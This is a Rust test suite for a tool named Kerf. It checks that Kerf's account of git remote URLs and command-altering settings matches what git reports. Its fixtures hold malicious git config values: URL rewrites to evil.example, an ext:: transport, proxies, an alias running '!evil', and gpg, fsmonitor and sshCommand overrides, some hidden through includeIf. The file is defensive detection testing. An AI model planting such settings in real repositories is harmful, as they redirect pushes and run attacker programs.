//! Where git would go and what it would run, as Kerf tells it, beside what git itself says.

use crate::{fixture::Fixture, worktree_kit::git};
use kerf_git::Act;
use rstest::rstest;

const TWO: &str = "url = https://one.example/a\n\turl = https://two.example/b\n";

#[rstest]
#[case::one("[remote \"origin\"]\n\turl = https://one.example/a\n")]
#[case::fetched_from_the_first(&format!("[remote \"origin\"]\n\t{TWO}"))]
#[case::rewritten(
    &format!("[remote \"origin\"]\n\t{TWO}[url \"ssh://evil.example/\"]\n\tinsteadOf = https://one.example/\n")
)]
#[case::rewritten_for_sending(
    &format!("[remote \"origin\"]\n\t{TWO}[url \"ssh://evil.example/\"]\n\tpushInsteadOf = https://one.example/\n")
)]
#[case::each_place_to_send_to_is_rewritten(
    "[url \"ext::evil \"]\n\tinsteadOf = short:\n[remote \"origin\"]\n\turl = https://one.example/a\n\tpushurl = short:x\n\tpushurl = https://two.example/b\n"
)]
#[case::where_it_is_sent_is_said_nothing_else_counts(
    "[url \"ssh://evil.example/\"]\n\tpushInsteadOf = https://\n[remote \"origin\"]\n\turl = https://one.example/a\n\tpushurl = https://two.example/b\n"
)]
#[case::the_longest_counts(
    "[url \"a:\"]\n\tinsteadOf = https://\n[url \"b:\"]\n\tinsteadOf = https://one\n[remote \"origin\"]\n\turl = https://one.example/a\n"
)]
#[case::of_two_the_first(
    "[url \"b:\"]\n\tinsteadOf = x\n[url \"a:\"]\n\tinsteadOf = https://\n[url \"b:\"]\n\tinsteadOf = https://\n[remote \"origin\"]\n\turl = https://one.example/a\n"
)]
#[case::in_settings_that_are_included(
    "[include]\n\tpath = more\n[remote \"origin\"]\n\turl = https://one.example/a\n"
)]
fn the_addresses_are_those_that_git_goes_to(#[case] config: &str) {
    let fixture = Fixture::new();
    fixture.append_config(config);
    std::fs::write(
        fixture.ws.join(".git/more"),
        "[remote \"origin\"]\n\turl = https://zero.example/z\n[url \"ssh://other.example/\"]\n\tinsteadOf = https://zero.example/\n",
    )
    .unwrap();
    let says = |words: &[&str]| -> Vec<String> {
        let said = git(&fixture.ws, &[&["remote", "get-url"], words].concat());
        said.lines().map(str::to_owned).collect()
    };
    let remotes = fixture.repo().remotes().unwrap();
    let [remote] = remotes.as_slice() else {
        panic!("{remotes:?}");
    };
    assert_eq!(remote.name, "origin");
    assert_eq!([remote.url.clone()].as_slice(), says(&["origin"]));
    assert_eq!(remote.push_urls, says(&["--push", "--all", "origin"]));
}

#[rstest]
#[case::a_group("origin", "[remotes]\n\torigin = one two\n")]
#[case::a_path("/srv/evil", "")]
#[case::an_empty_address("origin", "[remote \"origin\"]\n\turl =\n")]
#[case::an_empty_place_to_send_to("origin", "[remote \"origin\"]\n\tpushurl =\n")]
#[case::no_address(
    "other",
    "[remotes]\n\tother = good\n[remote \"origin\"]\n\tfetch = x\n"
)]
fn what_git_reads_in_another_way_is_left_out(#[case] name: &str, #[case] config: &str) {
    let fixture = Fixture::new();
    fixture.append_config(&format!(
        "[remote \"{name}\"]\n\turl = https://one.example/a\n[remote \"good\"]\n\turl = https://two.example/b\n{config}"
    ));
    let remotes = fixture.repo().remotes().unwrap();
    let names: Vec<&str> = remotes.iter().map(|remote| remote.name.as_str()).collect();
    assert_eq!(names, ["good"]);
}

#[rstest]
#[case(Act::Push, "[gpg]\n\tprogram = evil\n", "gpg.program = evil")]
#[case(
    Act::Push,
    "[gpg \"ssh\"]\n\tprogram = evil\n",
    "gpg.ssh.program = evil"
)]
#[case(
    Act::Fetch,
    "[remote \"origin\"]\n\tproxy = http://evil.example\n",
    "remote.origin.proxy = http://evil.example"
)]
#[case(
    Act::Fetch,
    "[http \"https://one.example\"]\n\tsslCAInfo = /evil\n",
    "http.https://one.example.sslcainfo = /evil"
)]
#[case(
    Act::Fetch,
    "[http]\n\tcurloptResolve = one.example:443:192.0.2.1\n",
    "http.curloptresolve = one.example:443:192.0.2.1"
)]
#[case(Act::Pull, "[alias]\n\tlfs = !evil\n", "alias.lfs = !evil")]
#[case(
    Act::Pull,
    "[lfs]\n\turl = https://evil.example\n",
    "lfs.url = https://evil.example"
)]
#[case(Act::Look, "[core]\n\tfsmonitor = evil\n", "core.fsmonitor = evil")]
fn settings_that_change_what_a_command_does_are_told(
    #[case] act: Act,
    #[case] config: &str,
    #[case] told: &str,
) {
    let fixture = Fixture::new();
    assert!(fixture.repo().programs(act).unwrap().is_empty());
    fixture.append_config(config);
    assert_eq!(fixture.repo().programs(act).unwrap(), [told]);
}

#[test]
fn a_condition_that_kerf_does_not_read_is_one_that_git_does() {
    let fixture = Fixture::new();
    fixture.append_config(
        "[remote \"origin\"]\n\turl = https://one.example/a\n[includeIf \"hasconfig:remote.*.url:https://**\"]\n\tpath = hidden\n",
    );
    std::fs::write(
        fixture.ws.join(".git/hidden"),
        "[core]\n\tsshCommand = evil\n",
    )
    .unwrap();
    assert_eq!(git(&fixture.ws, &["config", "core.sshCommand"]), "evil\n");
    assert_eq!(
        fixture.repo().programs(Act::Fetch).unwrap(),
        ["includeif.hasconfig:remote.*.url:https://**.path = hidden"]
    );
}
